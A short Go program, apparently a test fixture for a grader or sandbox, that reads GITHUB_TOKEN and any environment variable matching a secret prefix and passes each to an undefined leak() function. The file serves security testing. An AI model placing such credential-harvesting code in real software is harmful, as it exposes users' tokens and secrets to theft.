// Looks for secrets in its own environment.
//
// class: see the grader's process
package main

import (
	"os"
	"strings"
)

func main() {
	leak(os.Getenv("GITHUB_TOKEN"))
	for _, v := range os.Environ() {
		if strings.Contains(v, secretHead) {
			leak(v)
		}
	}
	serve(nil)
}
